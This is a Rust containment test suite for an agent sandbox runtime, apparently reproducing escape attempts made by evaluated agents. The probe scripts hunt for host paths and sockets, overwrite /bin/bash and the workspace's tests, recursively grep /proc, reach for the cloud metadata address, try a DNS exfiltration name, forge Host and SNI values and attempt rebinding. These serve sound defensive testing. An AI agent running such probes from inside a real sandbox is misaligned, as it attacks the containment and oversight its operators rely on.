//! The containment suite: what DSec's agents did to their sandboxes, tried on every backend
//! (fncall, container, microvm, vm), one scenario a test, each naming the line of
//! SECURITY.md it checks. Other lines have their tests beside the feature they guard (the
//! agent's integrity, masked kernel files, the syscall allowlist, evaluation, budgets,
//! streamed output); SECURITY.md's "Containment, tested" lists them all.

use std::net::TcpListener;
use std::sync::OnceLock;
use std::time::Duration;

use strata_tests::home::{can_run_vms, text, SampleEnv};

const BACKENDS: [&str; 4] = ["fncall", "container", "microvm", "vm"];

static ENV: OnceLock<Option<SampleEnv>> = OnceLock::new();

fn env(test: &str) -> Option<&'static SampleEnv> {
    if !can_run_vms(test) {
        return None;
    }
    ENV.get_or_init(|| Some(SampleEnv::new("containment-")))
        .as_ref()
}

/// `strata run --backend B EXTRA... <sample> -- sh -c SCRIPT`: exit code, stdout, stderr.
fn run(
    env: &SampleEnv,
    backend: &str,
    extra: &[&str],
    script: &str,
) -> (Option<i32>, String, String) {
    let mut args = vec!["run", "--backend", backend];
    args.extend_from_slice(extra);
    args.extend([env.reference.as_str(), "--", "sh", "-c", script]);
    let o = env.cli(&args);
    let (out, err) = text(&o);
    (o.status.code(), out, err)
}

/// SECURITY.md, "the agent's integrity", point 4 (nothing of the host's layout shows) and
/// "the node service" (logs, state, audits and control sockets are the host's): none of
/// the runtime's paths exists inside (its home, state and audit directories, the lazyfs
/// control socket and log, the sandbox's own directory with its agent socket and key, a
/// VM's QMP socket), no Unix socket inside answers on the host's behalf, and nothing the
/// sandbox can read names the home.
#[test]
fn the_hosts_state_logs_and_sockets_are_out_of_sight() {
    let Some(env) = env("containment_host_state") else {
        return;
    };
    let home = env.cli.home.display().to_string();
    let store = env.cli.store.display().to_string();
    for backend in BACKENDS {
        let id = env.create(&["--backend", backend]);
        let dir = format!("{home}/runtime/sandboxes/{id}");
        let paths = [
            home.clone(),
            store.clone(),
            format!("{home}/runtime"),
            format!("{home}/runtime/audit"),
            format!("{home}/lazyfs/run/control.sock"),
            format!("{home}/lazyfs/daemon.log"),
            dir.clone(),
            format!("{dir}/agent.sock"),
            format!("{dir}/agent.key"),
            format!("{dir}/qmp.sock"),
            "/run/strata".into(),
        ];
        // The probe is given the paths, as an agent that read our source would know them.
        let script = format!(
            "for p in {}; do test -e \"$p\" && echo \"SEEN $p\"; done; \
             for s in $(find / -xdev -type s 2>/dev/null); do echo \"SOCKET $s\"; done; \
             cat /proc/self/mountinfo /proc/self/cgroup /proc/1/cmdline /etc/hosts /etc/resolv.conf 2>/dev/null \
               | grep -c -F -e '{home}' -e '{store}' || true; echo probed",
            paths.map(|p| format!("'{p}'")).join(" "),
            home = home,
            store = store,
        );
        let out = env.sh_ok(&id, &script);
        assert!(out.contains("probed"), "{backend}: {out}");
        assert!(
            !out.contains("SEEN "),
            "{backend}: host paths seen inside: {out}"
        );
        let sockets: Vec<&str> = out.lines().filter(|l| l.starts_with("SOCKET ")).collect();
        assert!(sockets.is_empty(), "{backend}: sockets inside: {sockets:?}");
        let named: u32 = out
            .lines()
            .rev()
            .nth(1)
            .and_then(|l| l.trim().parse().ok())
            .unwrap_or(u32::MAX);
        assert_eq!(named, 0, "{backend}: the home is named inside: {out}");
        env.ok(&["sandbox", "rm", &id]);
    }
}

/// SECURITY.md, "the sandbox's processes" (every file they leave is theirs): overwriting
/// `/bin/bash`, a `/usr/lib` file and the workspace's tests changes only that sandbox's
/// writable layer; the next sandbox of the same entry has the layers' files.
#[test]
fn overwritten_system_files_stay_in_their_sandbox() {
    let Some(env) = env("containment_overwrite") else {
        return;
    };
    for backend in BACKENDS {
        let id = env.create(&["--backend", backend]);
        env.sh_ok(
            &id,
            "echo 'echo owned' > /usr/lib/os-release; echo 'def test_x(): pass' > /work/tests/test_wordfreq.py; \
             cp /bin/true /bin/bash",
        );
        assert_eq!(env.sh_ok(&id, "cat /usr/lib/os-release"), "echo owned\n");
        let (code, out, err) = run(
            env,
            backend,
            &[],
            "bash -c 'echo bash-works'; grep -c PRETTY_NAME /usr/lib/os-release; grep -c 'def test_x' /work/tests/test_wordfreq.py",
        );
        assert_eq!(
            (code, out.as_str()),
            (Some(1), "bash-works\n1\n0\n"),
            "{backend}: the next sandbox is not clean: {err}"
        );
        env.ok(&["sandbox", "rm", &id]);
    }
}

/// SECURITY.md, "the host's kernel": the recursive grep that crashed a host kernel in
/// DSec's report (through /proc/kpagecgroup) completes inside, within its budgets, and
/// finds nothing of the host: a marker the test writes into files of the host (its /tmp,
/// the home) is not found, the same marker in a file of the sandbox's own is. The host's kernel taint flags are unchanged. Host backends
/// grep the whole root; VM guests the kernel and runtime trees (/proc, /sys, /dev, /run,
/// /etc, /tmp, /root; their /usr is the same layer and costs minutes under emulation).
#[test]
fn a_recursive_grep_of_everything_completes_and_finds_nothing_of_the_host() {
    let Some(env) = env("containment_grep") else {
        return;
    };
    let marker = format!("strata-host-marker-{}", std::process::id());
    let host_files = [
        std::env::temp_dir().join(format!("{marker}.txt")),
        env.cli.home.join(format!("{marker}.txt")),
    ];
    for f in &host_files {
        std::fs::write(f, format!("{marker}\n")).expect("writing the marker");
    }
    let tainted = std::fs::read_to_string("/proc/sys/kernel/tainted").unwrap_or_default();
    for backend in BACKENDS {
        let roots = if backend.ends_with("vm") {
            "/proc /sys /dev /run /etc /tmp /root"
        } else {
            "/"
        };
        let (code, out, err) = run(
            env,
            backend,
            &["--timeout", "10m"],
            // The control: the marker in a file of the sandbox's own, which grep must find.
            &format!(
                "echo {marker} > /tmp/strata-control; grep -r -I -l -s {marker} {roots}; echo \"grep exit $?\""
            ),
        );
        assert_eq!(code, Some(0), "{backend}: {out}{err}");
        // 0: a match; 2: a match and a read the kernel refused somewhere (-s hides which).
        let (found, status) = out.trim_end().rsplit_once('\n').unwrap_or(("", out.trim()));
        assert!(
            status == "grep exit 0" || status == "grep exit 2",
            "{backend}: {out}{err}"
        );
        assert_eq!(
            found.lines().collect::<Vec<_>>(),
            ["/tmp/strata-control"],
            "{backend}: grep found the host's marker, or not its own"
        );
        assert!(!err.contains("budget exceeded"), "{backend}: {err}");
    }
    for f in &host_files {
        let _ = std::fs::remove_file(f);
    }
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/tainted").unwrap_or_default(),
        tainted,
        "the host kernel's taint flags changed"
    );
}

/// SECURITY.md, "confinement every sandbox gets" (budgets in cgroups, a disk budget as a
/// filesystem of its own): the usual escapes from a budget are held and attributed. A
/// tmpfs filled inside counts against memory (VM guests; see below); a disk's inodes run
/// out like its bytes do; open files stop at the descriptor limit.
#[test]
fn budget_escapes_are_held() {
    let Some(env) = env("containment_budgets") else {
        return;
    };
    for backend in BACKENDS {
        // tmpfs pages are the sandbox's memory: /dev/shm filled under a 32 MiB budget
        // holds. In a VM guest the writer is killed at the budget and the budget named; on
        // fncall and container /dev/shm is a quarter of the budget (8 MiB), so the write is
        // refused and the sandbox lives on (were it as large as the budget, the OOM killer
        // would find only the agent to kill: tmpfs pages belong to no process).
        let (code, out, err) = run(
            env,
            backend,
            &["--memory", "32M"],
            "dd if=/dev/zero of=/dev/shm/fill bs=1M count=200 2>&1 | head -1; du -m /dev/shm/fill | cut -f1",
        );
        let held: u64 = out
            .lines()
            .last()
            .and_then(|l| l.trim().parse().ok())
            .unwrap_or_else(|| panic!("{backend}: no size of /dev/shm/fill: {out}{err}"));
        if backend.ends_with("vm") {
            assert!(
                held <= 32,
                "{backend}: /dev/shm held {held} MiB under a 32M budget"
            );
            assert!(err.contains("budget exceeded: memory"), "{backend}: {err}");
        } else {
            assert_eq!(
                code,
                Some(0),
                "{backend}: the sandbox did not live on: {out}{err}"
            );
            assert_eq!(held, 8, "{backend}: /dev/shm held {held} MiB: {out}");
            assert!(out.contains("No space left on device"), "{backend}: {out}");
        }

        // Inodes: a 16M disk runs out of them (or of bytes) for a million empty files.
        let (code, out, err) = run(
            env,
            backend,
            &["--disk", "16M", "--timeout", "5m"],
            "mkdir /root/many && python3 -c \"\nn = 0\ntry:\n    while n < 1000000:\n        open(f'/root/many/f{n}', 'w').close()\n        n += 1\nexcept OSError as e:\n    pass\nprint('made', n)\n\"",
        );
        assert_eq!(code, Some(0), "{backend}: {out}{err}");
        let made: u64 = out
            .trim()
            .strip_prefix("made ")
            .and_then(|n| n.parse().ok())
            .unwrap_or(u64::MAX);
        assert!(made < 1_000_000, "{backend}: {made} files on a 16M disk");
        assert!(err.contains("budget exceeded: disk"), "{backend}: {err}");

        // Open files: the descriptor limit holds for root inside.
        let (code, out, err) = run(
            env,
            backend,
            &[],
            "python3 -c \"\nimport os, resource\nfds = []\ntry:\n    while len(fds) < 5000000:\n        fds.append(os.open('/dev/null', os.O_RDONLY))\nexcept OSError as e:\n    print('stopped', len(fds), e.errno)\nprint('limit', resource.getrlimit(resource.RLIMIT_NOFILE)[1])\n\"",
        );
        assert_eq!(code, Some(0), "{backend}: {out}{err}");
        let stopped: u64 = out
            .split_whitespace()
            .nth(1)
            .and_then(|n| n.parse().ok())
            .unwrap_or(u64::MAX);
        assert!(
            out.starts_with("stopped") && stopped <= 1 << 20,
            "{backend}: {out}"
        );
    }
}

/// SECURITY.md, "confinement every sandbox gets" (CPU in cgroups): a sandbox spinning
/// four threads on a 0.5-CPU budget gets no more than that from the host's neighbours,
/// as its cgroup's CPU counter shows over a few seconds (host backends; a VM's CPU is its
/// vCPUs, the guest cannot schedule more).
#[test]
fn a_cpu_budget_holds_against_a_spinning_sandbox() {
    let Some(env) = env("containment_cpu") else {
        return;
    };
    for backend in ["fncall", "container"] {
        let id = env.create(&["--backend", backend, "--cpus", "0.5"]);
        let out = env.sh_ok(
            &id,
            "python3 -c \"\nimport threading, time, os\nstop = time.time() + 6\ndef spin():\n    while time.time() < stop: pass\nts = [threading.Thread(target=spin) for _ in range(4)]\n[t.start() for t in ts]\n[t.join() for t in ts]\nt = os.times()\nprint(t.user + t.system)\n\"",
        );
        let used: f64 = out.trim().parse().unwrap_or(f64::MAX);
        // 6 s at half a CPU is 3 s; four threads unthrottled on two cores would take 12.
        assert!(
            used <= 3.0 * 1.35,
            "{backend}: {used:.2} s of CPU in 6 s on a 0.5-CPU budget"
        );
        env.ok(&["sandbox", "rm", &id]);
    }
}

/// SECURITY.md, "the node service" (sandboxes reach the service no more than the host):
/// a sandbox without an allowlist reaches nothing: not the host's addresses (a listener
/// the test opens on all of them), not the host's loopback, not private ranges nor the
/// cloud metadata address, and names do not resolve (no DNS to exfiltrate through).
#[test]
fn nothing_of_the_host_or_the_private_network_is_reachable() {
    let Some(env) = env("containment_network") else {
        return;
    };
    let listener = TcpListener::bind("0.0.0.0:0").expect("a listener on the host");
    let port = listener.local_addr().expect("its port").port();
    listener.set_nonblocking(true).expect("nonblocking");
    let host_addr = host_address();
    for backend in BACKENDS {
        let targets = format!(
            "127.0.0.1:{port} {host_addr}:{port} 169.254.169.254:80 10.0.0.1:80 172.16.0.1:80 192.168.0.1:80 10.0.2.2:{port} 10.0.2.3:53"
        );
        let script = format!(
            "python3 -c \"\nimport socket\nfor t in '{targets}'.split():\n    h, p = t.rsplit(':', 1)\n    try:\n        socket.create_connection((h, int(p)), timeout=2).close(); print('REACHED', t)\n    except OSError as e:\n        print('closed', t)\ntry:\n    socket.getaddrinfo('exfil-{port}.example.com', 80); print('RESOLVED')\nexcept OSError:\n    print('no dns')\n\""
        );
        let (code, out, err) = run(env, backend, &["--timeout", "2m"], &script);
        assert_eq!(code, Some(0), "{backend}: {out}{err}");
        assert!(!out.contains("REACHED"), "{backend}: {out}");
        assert!(!out.contains("RESOLVED"), "{backend}: {out}");
        assert_eq!(out.matches("closed").count(), 8, "{backend}: {out}");
        // Nothing came in on the host's side either.
        if let Ok((_, from)) = listener.accept() {
            panic!("{backend}: a sandbox connected to the host's listener from {from}");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// SECURITY.md, "the network": rules by name hold outside the sandbox. With `debian`-like
/// names (`*.debian.org:80`), the `pypi` rule set and the host's own name allowed, a
/// sandbox resolves and reaches exactly the allowed names; a name no rule allows gets
/// NXDOMAIN, also when asked of a public resolver directly (the query reaches only the
/// proxy); a forged Host or TLS server name, or an address no answer gave, is cut off; an
/// allowed name that resolves to the host itself (as a rebinding attacker's name would)
/// is answered with no address, and the host's listener sees nothing. The audit lists the
/// allowed and denied names and destinations; nothing of the proxy outlives the sandbox.
/// VMs reach exact names by forwarders of their own: `*.` patterns are refused by name.
#[test]
fn names_reach_only_their_hosts_through_the_egress_proxy() {
    let Some(env) = env("containment_egress") else {
        return;
    };
    let listener = TcpListener::bind("0.0.0.0:0").expect("a listener on the host");
    let port = listener.local_addr().expect("its port").port();
    listener.set_nonblocking(true).expect("nonblocking");
    let host_name = strata_tests::sh("hostname").trim().to_string();
    let host_addr = host_address();
    let probe = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("probes/egress.py"),
    )
    .expect("the egress probe");
    let own_rule = format!("{host_name}:{port}");
    for backend in ["fncall", "container"] {
        let id = env.create(&[
            "--backend",
            backend,
            "--net",
            "pypi",
            "--net",
            "*.debian.org:80",
            "--net",
            &own_rule,
        ]);
        let o = env.cli(&[
            "sandbox",
            "exec",
            &id,
            "--",
            "python3",
            "-c",
            &probe,
            &host_name,
            &port.to_string(),
            &host_addr,
            "127.0.0.1",
        ]);
        let (out, err) = text(&o);
        assert!(o.status.success(), "{backend}: {out}{err}");
        let answer = |what: &str| {
            out.lines()
                .find_map(|l| l.strip_prefix(&format!("{what} ")))
                .unwrap_or_else(|| panic!("{backend}: no {what} in {out}"))
                .to_string()
        };
        for allowed in ["dns-allowed", "tls-allowed"] {
            assert!(answer(allowed).starts_with("ok"), "{backend}: {out}");
        }
        assert!(
            answer("http-allowed").starts_with("ok HTTP/1.1_"),
            "{backend}: {out}"
        );
        assert_eq!(
            answer("dns-raw-denied"),
            "ok 3",
            "{backend}: NXDOMAIN expected: {out}"
        );
        assert_eq!(answer("dns-raw-allowed"), "ok 0", "{backend}: {out}");
        for refused in [
            "dns-denied",
            "http-host-forged",
            "http-address-not-given",
            "tls-sni-forged",
            "rebind-dns",
        ] {
            assert!(
                answer(refused).starts_with("refused"),
                "{backend}: {refused}: {out}"
            );
        }
        for addr in [host_addr.as_str(), "127.0.0.1"] {
            assert!(
                answer(&format!("rebind-connect-{addr}")).starts_with("refused"),
                "{backend}: {out}"
            );
        }
        if let Ok((_, from)) = listener.accept() {
            panic!("{backend}: a sandbox connected to the host's listener from {from}");
        }
        env.ok(&["sandbox", "rm", &id]);
        env.assert_gone(&id, &[]);
        assert!(
            !strata_tests::sh("nft list table inet strata").contains(&id),
            "{backend}: rules left"
        );
        assert!(
            !strata_tests::sh("ps -eo args").contains(&format!("{id}/egress.json")),
            "{backend}: the egress proxy outlived its sandbox"
        );
        let audit = env.ok(&["sandbox", "audit", &id]);
        let egress = audit
            .lines()
            .find(|l| l.contains("\"network-egress\""))
            .unwrap_or_else(|| panic!("{backend}: no network-egress in {audit}"));
        let record: serde_json::Value = serde_json::from_str(egress).expect("audit JSON");
        let entries = record["entries"].as_array().expect("entries");
        let has = |kind: &str, name: &str, allowed: bool| {
            entries
                .iter()
                .any(|e| e["kind"] == kind && e["name"] == name && e["allowed"] == allowed)
        };
        assert!(has("dns", "deb.debian.org", true), "{backend}: {egress}");
        assert!(has("dns", "example.com", false), "{backend}: {egress}");
        assert!(
            has("dns", "exfil-secret.example.com", false),
            "{backend}: {egress}"
        );
        assert!(
            has("connect", "deb.debian.org", true),
            "{backend}: {egress}"
        );
        assert!(has("connect", "example.com", false), "{backend}: {egress}");
        assert!(
            entries
                .iter()
                .any(|e| e["destination"] == "1.1.1.1:80" && e["allowed"] == false),
            "{backend}: {egress}"
        );
    }
    // A VM reaches a name through a forwarder of its own, which joins only the name's
    // addresses at create and cuts off a guest that asks it for another name.
    let tls = "import socket, ssl, sys\n\
        ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE\n\
        for name in ['pypi.org', 'example.com']:\n\
        \x20   try:\n\
        \x20       s = socket.create_connection(('pypi.org', 443), timeout=20)\n\
        \x20       print(name, 'ok', ctx.wrap_socket(s, server_hostname=name).version())\n\
        \x20   except Exception as e:\n\
        \x20       print(name, 'refused', type(e).__name__)\n";
    let (code, out, err) = run(
        env,
        "microvm",
        &["--memory", "256M", "--net", "pypi"],
        &format!("python3 -c \"{tls}\""),
    );
    assert_eq!(code, Some(0), "microvm: {out}{err}");
    assert!(out.contains("pypi.org ok TLS"), "microvm: {out}");
    assert!(out.contains("example.com refused"), "microvm: {out}");
    for backend in ["microvm", "vm"] {
        env.refused_run(
            &["--backend", backend, "--net", "*.debian.org:80"],
            &env.reference,
            "exact host names only",
        );
    }
}

/// A small disk of its own, loop-mounted, for a home and a store to fill; unmounted (and
/// its lazyfs daemon and pooled uppers ended) when dropped.
struct SmallDisk {
    dir: std::path::PathBuf,
    home: strata_tests::home::CliHome,
}

impl SmallDisk {
    fn new(store: Option<&std::path::Path>) -> SmallDisk {
        let dir = tempfile::Builder::new()
            .prefix("full-disk-")
            .tempdir_in(strata_tests::scratch_root())
            .expect("tempdir")
            .keep();
        let mnt = dir.join("mnt");
        strata_tests::sh(&format!(
            "truncate -s 256M {d}/disk.img && mkfs.ext4 -q {d}/disk.img && mkdir -p {m} && mount -o loop {d}/disk.img {m}",
            d = dir.display(),
            m = mnt.display()
        ));
        let home = strata_tests::home::CliHome {
            home: mnt.join("home"),
            store: store.map_or_else(|| mnt.join("store"), |s| s.to_path_buf()),
        };
        std::fs::create_dir_all(&home.home).expect("the home");
        SmallDisk { dir, home }
    }

    /// Fills the disk but `left_mib`.
    fn fill(&self, left_mib: u64) {
        let mnt = self.dir.join("mnt");
        strata_tests::sh(&format!(
            "rm -f {m}/ballast; sync; free=$(df -m --output=avail {m} | tail -1); \
             fallocate -l $(( free - {left_mib} ))M {m}/ballast",
            m = mnt.display()
        ));
    }

    fn empty(&self) {
        let _ = std::fs::remove_file(self.dir.join("mnt/ballast"));
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        let _ = self.home.cli(&["sandbox", "pool", "--drain"]);
        let _ = self.home.cli(&["lazyfs", "stop"]);
        let mnt = self.dir.join("mnt");
        // The daemon lets go of the disk a moment after `lazyfs stop` answers.
        let deadline = std::time::Instant::now() + Duration::from_secs(20);
        while std::process::Command::new("umount")
            .arg("-R")
            .arg(&mnt)
            .stderr(std::process::Stdio::null())
            .status()
            .is_ok_and(|s| !s.success())
            && std::time::Instant::now() < deadline
        {
            std::thread::sleep(Duration::from_millis(200));
        }
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// SECURITY.md, "nothing stored is lost": the disk under STRATA_HOME full during a build,
/// cache writes and sandbox writes. A build that runs out of space fails naming the store's
/// disk and what to do, and leaves no layer (verify clean); the same build succeeds once
/// there is room. A sandbox whose layers' chunks cannot be cached still reads them (from
/// the store, verified) and the lazyfs daemon keeps serving; a sandbox is refused, naming
/// its disk budget and the free space, when its upper's writes could not all be kept
/// (sparse images on a full disk lose writes the sandbox was told succeeded).
#[test]
fn a_full_disk_under_the_home_gives_clear_errors_and_loses_nothing() {
    let Some(env) = env("containment_full_disk") else {
        return;
    };
    // A build into a store on the full disk.
    let disk = SmallDisk::new(None);
    let src = disk.dir.join("src");
    std::fs::create_dir_all(&src).expect("source dir");
    strata_tests::sh(&format!(
        "head -c 48M /dev/urandom > {s}/blob && echo small > {s}/note",
        s = src.display()
    ));
    disk.fill(12);
    let src_arg = src.display().to_string();
    let o = disk.home.cli(&["layer", "build", &src_arg]);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "{out}{err}");
    assert!(
        err.contains("no space left on the store's disk") && err.contains("strata store gc"),
        "{err}"
    );
    assert_eq!(
        disk.home.ok(&["layer", "ls"]).lines().count(),
        1,
        "a layer was listed"
    );
    let verify = disk.home.ok(&["store", "verify"]);
    assert!(verify.contains("0 problem(s)"), "{verify}");
    disk.empty();
    let layer = disk.home.ok(&["layer", "build", &src_arg]);
    assert!(
        disk.home
            .ok(&["store", "verify"])
            .contains("verified 1 layers"),
        "{layer}"
    );
    drop(disk);

    // A home on the full disk, its store elsewhere.
    let disk = SmallDisk::new(Some(&env.cli.store));
    let home = &disk.home;
    disk.fill(3);
    let o = home.cli(&[
        "run",
        "--backend",
        "fncall",
        "--disk",
        "1M",
        &env.reference,
        "--",
        "python3",
        "-c",
        "import json, email, asyncio, unittest, http.client, sqlite3, decimal; print('read')",
    ]);
    let (out, err) = text(&o);
    assert!(o.status.success() && out.contains("read"), "{out}{err}");
    for backend in ["fncall", "container"] {
        let o = home.cli(&["run", "--backend", backend, &env.reference, "--", "true"]);
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(1), "{backend}: {out}{err}");
        assert!(
            err.contains("less than the sandbox's disk budget of 1024 MiB")
                && err.contains("--disk"),
            "{backend}: {err}"
        );
    }
    // The lazyfs daemon lived through it, and everything works once there is room.
    let daemon = lazyfs_pid(&home.home).expect("the home's lazyfs daemon");
    disk.empty();
    let o = home.cli(&[
        "run",
        "--backend",
        "fncall",
        "--disk",
        "16M",
        &env.reference,
        "--",
        "sh",
        "-c",
        "echo kept > /root/f && cat /root/f",
    ]);
    let (out, err) = text(&o);
    assert!(o.status.success() && out.contains("kept"), "{out}{err}");
    assert_eq!(
        lazyfs_pid(&home.home),
        Some(daemon),
        "the lazyfs daemon was replaced"
    );
    let sandboxes = home.home.join("runtime/sandboxes").display().to_string();
    let mounts = std::fs::read_to_string("/proc/mounts").expect("mounts");
    assert!(
        !mounts.contains(&sandboxes),
        "a sandbox's mount was left: {mounts}"
    );
    let mnt = disk.dir.join("mnt").display().to_string();
    drop(disk);
    let mounts = std::fs::read_to_string("/proc/mounts").expect("mounts");
    assert!(
        !mounts.contains(&mnt),
        "the small disk stayed mounted: {mounts}"
    );
}

/// The host's address on its default route.
fn host_address() -> String {
    let o = std::process::Command::new("ip")
        .args(["-4", "route", "get", "1.1.1.1"])
        .output()
        .expect("ip route get");
    let text = String::from_utf8_lossy(&o.stdout).into_owned();
    let words: Vec<&str> = text.split_whitespace().collect();
    words
        .iter()
        .position(|w| *w == "src")
        .and_then(|i| words.get(i + 1))
        .map(|s| s.to_string())
        .unwrap_or_else(|| "127.0.0.1".into())
}

/// The README's "nothing leaks" under SIGKILL: create → exec → destroy cycles on fncall and
/// container (`STRATA_SOAK_CYCLES`, 60 by default; the 1,000 by hand), with kills
/// at points that vary by cycle: the CLI mid-run (its sandbox orphaned), the sandbox's init
/// from the host (a crash), the home's lazyfs daemon between cycles (restarted by the next
/// command). After a reap: nothing of any sandbox left (directory, upper image, mount,
/// cgroup, network namespace, process, OCI state), every audit ends with `ended` and a
/// reason, and `store verify` finds the store intact.
#[test]
fn a_soak_of_killed_cycles_leaks_nothing_and_corrupts_nothing() {
    let Some(env) = env("containment_soak") else {
        return;
    };
    let cycles: usize = std::env::var("STRATA_SOAK_CYCLES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(60);
    // A home of its own (its lazyfs is killed), on the shared store.
    let home = env.cli.sharing_store("containment-soak-");
    let ok = |args: &[&str]| home.ok(args);
    let (mut kills, mut crashes, mut lazyfs_kills) = (0, 0, 0);
    for i in 0..cycles {
        let backend = if i % 2 == 0 { "fncall" } else { "container" };
        match i % 5 {
            // A whole run.
            0 | 3 => {
                let out = ok(&[
                    "run",
                    "--backend",
                    backend,
                    &env.reference,
                    "--",
                    "echo",
                    "ok",
                ]);
                assert_eq!(out, "ok\n", "cycle {i}");
            }
            // The CLI killed mid-run, at a point that varies (before or after its sandbox
            // exists).
            1 => {
                let mut child = home
                    .cmd(&[
                        "run",
                        "--backend",
                        backend,
                        &env.reference,
                        "--",
                        "sleep",
                        "30",
                    ])
                    .stdout(std::process::Stdio::null())
                    .stderr(std::process::Stdio::null())
                    .spawn()
                    .expect("strata run");
                std::thread::sleep(Duration::from_millis(40 + (i as u64 * 37) % 400));
                let _ = child.kill();
                let _ = child.wait();
                kills += 1;
            }
            // A sandbox whose init is killed from the host, then removed.
            2 => {
                let id = ok(&["sandbox", "create", "--backend", backend, &env.reference]);
                let id = id.lines().last().unwrap_or_default().trim().to_string();
                let list: Vec<serde_json::Value> =
                    serde_json::from_str(&ok(&["sandbox", "ls", "--json"])).expect("ls --json");
                let init = list
                    .iter()
                    .find(|s| s["id"] == id.as_str())
                    .and_then(|s| s["init_pid"].as_i64())
                    .expect("its init") as i32;
                // SAFETY: kill(2) of the sandbox's init, a process of this test's making.
                unsafe { libc::kill(init, libc::SIGKILL) };
                let _ = home.cli(&["sandbox", "rm", &id]);
                crashes += 1;
            }
            // The home's lazyfs daemon killed; the next command starts another.
            _ => {
                if let Some(pid) = lazyfs_pid(&home.home) {
                    // SAFETY: kill(2) of this home's lazyfs daemon.
                    unsafe { libc::kill(pid, libc::SIGKILL) };
                    lazyfs_kills += 1;
                }
                let out = ok(&[
                    "run",
                    "--backend",
                    backend,
                    &env.reference,
                    "--",
                    "echo",
                    "ok",
                ]);
                assert_eq!(out, "ok\n", "cycle {i} after lazyfs was killed");
            }
        }
    }
    // A sandbox whose maker was killed before its record is reaped once a moment has
    // passed (the runtime's grace for a directory being made).
    std::thread::sleep(Duration::from_secs(6));
    ok(&["sandbox", "reap"]);
    let audits: Vec<String> = std::fs::read_dir(home.runtime_dir().join("audit"))
        .expect("the audit directory")
        .flatten()
        .filter_map(|e| {
            e.file_name()
                .to_string_lossy()
                .strip_suffix(".jsonl")
                .map(str::to_string)
        })
        .collect();
    assert!(audits.len() >= cycles * 3 / 5, "{} audits", audits.len());
    let namespaces = String::from_utf8_lossy(
        &std::process::Command::new("ip")
            .args(["netns", "list"])
            .output()
            .expect("ip netns list")
            .stdout,
    )
    .into_owned();
    for id in &audits {
        let dir = home.runtime_dir().join("sandboxes").join(id);
        if dir.exists() {
            let files: Vec<String> = std::fs::read_dir(&dir)
                .map(|d| {
                    d.flatten()
                        .map(|e| e.file_name().to_string_lossy().into_owned())
                        .collect()
                })
                .unwrap_or_default();
            panic!(
                "sandbox {id} left: {files:?}\naudit: {}\nls: {}",
                home.ok(&["sandbox", "audit", id]),
                home.ok(&["sandbox", "ls", "--json"])
            );
        }
        home.assert_sandbox_gone(id, &[]);
        assert!(!namespaces.contains(id.as_str()), "netns of {id} left");
        let audit = home.ok(&["sandbox", "audit", id]);
        let last: serde_json::Value = audit
            .lines()
            .rev()
            .find_map(|l| serde_json::from_str(l).ok())
            .unwrap_or_else(|| panic!("{id}: empty audit"));
        assert_eq!(last["event"], "ended", "{id}: {audit}");
        assert!(last["reason"].is_string(), "{id}: {audit}");
    }
    let left = strata_tests::home::sandboxes_in(&home.home);
    assert!(left.is_empty(), "{left:?}");
    let verify = home.cli(&["store", "verify", "--json"]);
    assert!(verify.status.success(), "{:?}", text(&verify));
    eprintln!(
        "soak: {cycles} cycles, {} sandboxes, {kills} CLIs killed mid-run, {crashes} inits killed, {lazyfs_kills} lazyfs daemons killed: nothing left, store intact",
        audits.len()
    );
}

/// The lazyfs daemon of `home`: the process holding its lock file open.
fn lazyfs_pid(home: &std::path::Path) -> Option<i32> {
    let lock = home.join("lazyfs/run/daemon.lock");
    for p in std::fs::read_dir("/proc").ok()?.flatten() {
        let Ok(pid) = p.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let Ok(fds) = std::fs::read_dir(p.path().join("fd")) else {
            continue;
        };
        if fds
            .flatten()
            .any(|fd| std::fs::read_link(fd.path()).is_ok_and(|t| t == lock))
        {
            return Some(pid);
        }
    }
    None
}
